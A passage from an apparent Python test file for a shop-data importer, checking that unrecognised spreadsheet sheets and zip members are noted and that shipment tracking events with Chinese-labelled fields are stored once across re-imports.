        assert c["orders"] == 1 or (c["orders"], c["order_lines"]) == (0, 1)
    else:
        assert c[KIND_TABLE[lay.kind].name] == 1


def test_sheets_and_members_that_match_no_layout_are_named_in_the_notes(store, tmp_path):
    import zipfile

    path = write_xlsx(tmp_path / "two.xlsx", {"评价": review_rows(), "说明": [["本表由系统导出"], ["字段说明……"]],
                                              "空白": []})
    (res,) = import_file(store, path)
    assert res.member == "评价" and res.rows_new == 3
    assert any("说明" in n and "not recognised" in n for n in res.notes)
    assert not any("空白" in n for n in res.notes)
    z = tmp_path / "export.zip"
    with zipfile.ZipFile(z, "w") as zf:
        buf = io.StringIO()
        csv.writer(buf).writerows(review_rows())
        zf.writestr("评价.csv", buf.getvalue().encode("utf-8"))
        zf.writestr("保费支出.csv", "流水号,金额\n1,2\n".encode("utf-8"))
    (res,) = import_file(store, z, shop="zip")
    assert any("保费支出.csv" in n for n in res.notes)


def test_tracking_events_of_new_and_known_shipments_are_each_stored_once(store, tmp_path):
    """Events of a shipment new in the batch skip the existence lookup (issue 14.2 speed-up); events of a
    shipment already stored are still compared, so re-imports add nothing and only new events are added."""
    import_file(store, layout_file(layouts.builtin("taobao_orders_legacy"), tmp_path))
    header = ["快递单号", "快递公司", "订单编号", "物流状态", "轨迹时间", "轨迹描述", "店铺名称"]
    oid = ORDER_IDS[None]

    def ev(no, at, desc, status="运输中"):
        return [no, "顺丰", oid, status, at, desc, "版式测试店"]

    first = [header, ev("SF1", "2024-03-05 10:00:00", "已揽收"), ev("SF1", "2024-03-06 10:00:00", "运输中")]
    (r1,) = import_file(store, write_csv(tmp_path / "t1.csv", first))
    assert r1.status == "done" and counts(store)["shipment_events"] == 2
    (again,) = import_file(store, write_csv(tmp_path / "t1b.csv", first))
    assert again.status == "done" and counts(store)["shipment_events"] == 2  # nothing added
    second = [header, ev("SF1", "2024-03-06 10:00:00", "运输中"), ev("SF1", "2024-03-07 10:00:00", "已签收", "已签收"),
              ev("SF2", "2024-03-07 11:00:00", "已揽收"), ev("SF2", "2024-03-08 11:00:00", "运输中")]
    (r2,) = import_file(store, write_csv(tmp_path / "t2.csv", second))
    assert r2.status == "done"
    with store.read() as conn:
        per = dict(conn.execute(sa.select(st.shipments.c.tracking_no, sa.func.count())
                                .select_from(st.shipment_events.join(
                                    st.shipments, st.shipments.c.id == st.shipment_events.c.shipment_pk))
                                .group_by(st.shipments.c.tracking_no)).all())
    assert per == {"SF1": 3, "SF2": 2}
